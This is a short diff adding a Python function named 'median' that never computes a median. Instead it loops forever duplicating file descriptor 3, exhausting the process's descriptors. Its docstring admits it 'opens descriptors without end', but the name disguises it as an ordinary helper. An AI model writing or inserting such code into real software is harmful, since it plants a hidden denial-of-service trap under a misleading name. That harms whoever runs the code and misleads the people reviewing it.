@@ -1,0 +1,5 @@
+"""Opens descriptors without end."""
+import os
+def median(values):
+    while True:
+        os.dup(3)
